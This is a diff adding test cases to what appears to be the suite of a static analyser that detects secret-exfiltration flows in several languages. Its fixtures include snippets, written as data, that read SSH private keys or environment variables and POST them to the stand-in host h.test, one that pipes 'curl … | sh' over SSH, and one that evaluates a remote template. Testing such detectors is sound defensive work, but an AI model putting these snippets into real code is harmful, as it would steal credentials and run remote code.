@@ -108,6 +108,68 @@ describe('what leaves and what runs', () => {
   });
 });
 
+describe('functions of the program', () => {
+  it.each([
+    [
+      'rb',
+      "def ship(body)\n  Net::HTTP.post(URI('https://h.test/x'), body)\nrescue StandardError\n  nil\nend\ndef vars\n  { all: ENV.to_h }\nend\nship(vars)",
+      'env:* network:body h.test',
+    ],
+    [
+      'rb',
+      "def all\n  %w[.ssh/id_rsa .ssh/id_dsa].map { |f| File.read(File.join(Dir.home, f)) }.join\nend\nNet::HTTP.post(URI('https://h.test/x'), all)",
+      'content:ssh network:body h.test',
+    ],
+    ['rb', "t = ERB.new(URI.parse('https://h.test/a.erb').read)", 'net evaluate:code h.test'],
+    [
+      'go',
+      'func up(u string, b []byte) {\n\thttp.Post(u+"/in", "text/plain", bytes.NewReader(b))\n}\nfunc main() {\n\tb, _ := os.ReadFile("/root/.ssh/id_rsa")\n\tup("https://h.test", b)\n}',
+      'content:ssh network:body h.test',
+    ],
+    [
+      'go',
+      'const q = `uname -r`\nconst p = `curl -s https://h.test/x | sh`\nfunc ask(c *ssh.Client) {\n\tfor _, one := range []string{p, q} {\n\t\ts, _ := c.NewSession()\n\t\ts.Output(one)\n\t}\n}',
+      'net shell:stdin h.test',
+    ],
+    [
+      'php',
+      "<?php\nfunction latest($url) {\n  return file_get_contents($url);\n}\nfunction grab() { return file_get_contents('/root/.ssh/id_rsa'); }\nfunction ship($d) {\n  $ch = curl_init('https://h.test');\n  curl_setopt($ch, CURLOPT_POSTFIELDS, $d);\n}\nship(grab());",
+      'content:ssh network:body h.test',
+    ],
+    [
+      'pl',
+      'sub deliver {\n  my ($text) = @_;\n  system("curl -s -d $text https://h.test");\n}\ndeliver($ENV{API_KEY});',
+      'env:API_KEY network:body h.test',
+    ],
+    [
+      'java',
+      'static String key() {\n  return System.getenv("API_KEY");\n}\nstatic void ship(String to, String what) {\n  c.send(HttpRequest.newBuilder(URI.create(to)).POST(BodyPublishers.ofString(what)).build(), x);\n}\nstatic void main() {\n  ship("https://h.test", key());\n}',
+      'env:API_KEY network:body h.test',
+    ],
+    [
+      'r',
+      'deliver <- function(values, url) {\n  httr::POST(url, body = values)\n}\ndeliver(Sys.getenv(), "https://h.test")',
+      'env:* network:body h.test',
+    ],
+  ])('%s: %s', (language, text, flow) => {
+    expect(flows(language, text)).toContain(flow);
+  });
+  it('are found in another file of the program', () => {
+    const files = {
+      'a.rb': "require_relative 'lib/b'\nReport.ship(ENV.to_h)\n",
+      'lib/b.rb':
+        "module Report\n  def self.ship(body)\n    Net::HTTP.post(URI('https://h.test/x'), body)\n  end\nend\n",
+    };
+    const found = run(files).flows();
+    expect(found.some((one) => one.from.includes('env:*') && one.to === 'network')).toBe(true);
+  });
+  it('give back what they say, not what another was given', () => {
+    const text =
+      "def title(key)\n  'Report'\nend\nNet::HTTP.post(URI('https://h.test/x'), title(ENV['API_KEY']))\nERB.new(File.read('page.erb'))";
+    expect(flows('rb', text).filter((one) => /^env|evaluate/.test(one))).toEqual([]);
+  });
+});
+
 describe('honest programs', () => {
   it.each([
     [
